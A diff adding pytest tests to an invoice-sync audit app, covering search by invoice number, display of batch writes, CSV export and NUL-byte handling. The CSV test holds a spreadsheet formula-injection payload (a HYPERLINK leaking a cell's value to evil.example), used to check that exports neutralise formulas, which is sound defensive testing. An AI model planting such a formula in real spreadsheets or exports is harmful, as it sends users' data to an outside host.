@@ -12,6 +12,7 @@ from jobs.audit import DatabaseAuditSink
 from models import db
 from sandbox.connectwise import DEFAULTS, create_app
 from sandbox.kit import serve_in_thread
+from tests.sync_e2e.conftest import clock, cw, xero  # noqa: F401  (fixtures)
 
 
 @pytest.fixture(scope="module")
@@ -109,7 +110,8 @@ def test_a_cw_number_finds_the_record_and_rows_link_record_and_run(app, client, 
                url="https://api.xero.com/api.xro/2.0/Invoices?summarizeErrors=false")
         _entry("invoice:1378", url="https://api.xero.com/api.xro/2.0/Invoices?other")
     auth.login()
-    for text in ("invoice:1377", "10077"):
+    # Its number as the pages name it ("Invoice 10077"), its CW id, or the number alone.
+    for text in ("invoice:10077", "invoice:1377", "10077"):
         page = client.get(f"/audit/?q={text}").get_data(as_text=True)
         assert "summarizeErrors=false" in page and "Invoices?other" not in page, text
         assert f'href="/records/{record.id}">Invoice 10077<' in page
@@ -223,3 +225,71 @@ def test_a_record_finds_the_batch_write_that_carried_it(app, client, auth):
         page = client.get(f"/audit/?q={text}").get_data(as_text=True)
         assert "batch=mine" in page, text
         assert "batch=another-run" not in page and "batch=longer-number" not in page
+
+
+def test_a_cycles_batch_writes_name_their_records_and_are_found_by_number(
+        app, client, auth, cw, xero, clock):  # noqa: F811
+    """A real invoice cycle against both sandboxes: each PUT of many invoices says how
+    many it carried and links the first of them; any one invoice's number finds it."""
+    from jobs.cycle import Pacing, run_cycle
+    from jobs.demo import connect_sandboxes, seed_mappings_from_catalog
+    from models import AuditEntry, SyncRecord
+    with app.app_context(), db.connection_context():
+        connect_sandboxes(cw.url, xero.url)
+        seed_mappings_from_catalog()
+        run_cycle("invoice", pacing=Pacing(clock.sleep, clock.clock))
+        batch = (AuditEntry.select().where((AuditEntry.method == "PUT") &
+                                           AuditEntry.record_refs.is_null(False))
+                 .order_by(AuditEntry.id).first())
+        assert batch is not None and batch.record_ref == "invoice:"
+        ids = [int(i) for i in batch.record_refs.strip(",").split(",")]
+        assert len(ids) > 3
+        carried = {r.cw_id: r for r in SyncRecord.select().where(SyncRecord.cw_id.in_(ids))}
+    first, second, last = carried[ids[0]], carried[ids[1]], carried[ids[-1]]
+    auth.login()
+    page = client.get("/audit/?method=PUT").get_data(as_text=True)
+    row = re.search(rf'<tr id="entry-{batch.id}">.*?</tr>', page, re.S).group(0)
+    cell = re.search(r'<td class="record">(.*?)</td>', row, re.S).group(1)
+    words = " ".join(re.sub(r"<[^>]+>", "", cell).split())
+    assert words.startswith(f"{len(ids)} invoices: {first.cw_number}, {second.cw_number}, ")
+    assert words.endswith(f"and {len(ids) - 3} more")
+    assert f'href="/records/{first.id}"' in cell
+    # Its own page names every record it carried.
+    detail = client.get(f"/audit/{batch.id}").get_data(as_text=True)
+    assert f'href="/records/{last.id}"' in detail and f">{last.cw_number}</a>" in detail
+    # The last invoice of the batch, searched as the pages show it, finds that write.
+    found = client.get(f"/audit/?q=invoice:{last.cw_number}").get_data(as_text=True)
+    assert f'id="entry-{batch.id}"' in found
+    # The type filter keeps batch writes (their record_ref is the type alone).
+    assert f'id="entry-{batch.id}"' in client.get("/audit/?type=invoice").get_data(as_text=True)
+    assert f'id="entry-{batch.id}"' not in client.get("/audit/?type=bill").get_data(as_text=True)
+    export = client.get("/audit/export.csv?method=PUT").get_data(as_text=True)
+    assert f"invoice:{','.join(map(str, ids))}" in export
+
+
+def test_csv_export_keeps_formulas_from_spreadsheets(app, client, auth):
+    """A body or error Ferry was sent can be made to look like a formula: in the export
+    it is text, with the apostrophe spreadsheets hide."""
+    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+    with app.app_context(), db.connection_context():
+        _entry(None, status=500, url="https://x/evil", error=evil, response_body=evil,
+               request_body="+SUM(1,2)")
+    auth.login()
+    rows = list(csv.reader(io.StringIO(client.get("/audit/export.csv").get_data(as_text=True))))
+    row = next(r for r in rows if r[3] == "https://x/evil")
+    assert row[9] == "'" + evil and row[11] == "'" + evil and row[10] == "'+SUM(1,2)"
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
+
+
+def test_a_nul_in_the_search_is_a_sentence_not_a_server_error(app, client, auth):
+    with app.app_context(), db.connection_context():
+        _entry(None, url="https://x/kept")
+    auth.login()
+    for args in ("q=a%00b", "customer=a%00b", "q=invoice:1%00"):
+        page = client.get(f"/audit/?{args}", headers={"HX-Request": "true"})
+        assert page.status_code == 422, args
+        assert "invisible character (NUL)" in page.get_data(as_text=True)
+        assert client.get(f"/audit/?{args}").status_code == 422
+        assert client.get(f"/audit/live?after=0&{args}").status_code == 200
+        export = client.get(f"/audit/export.csv?{args}")
+        assert export.status_code == 422 and "NUL" in export.get_data(as_text=True)
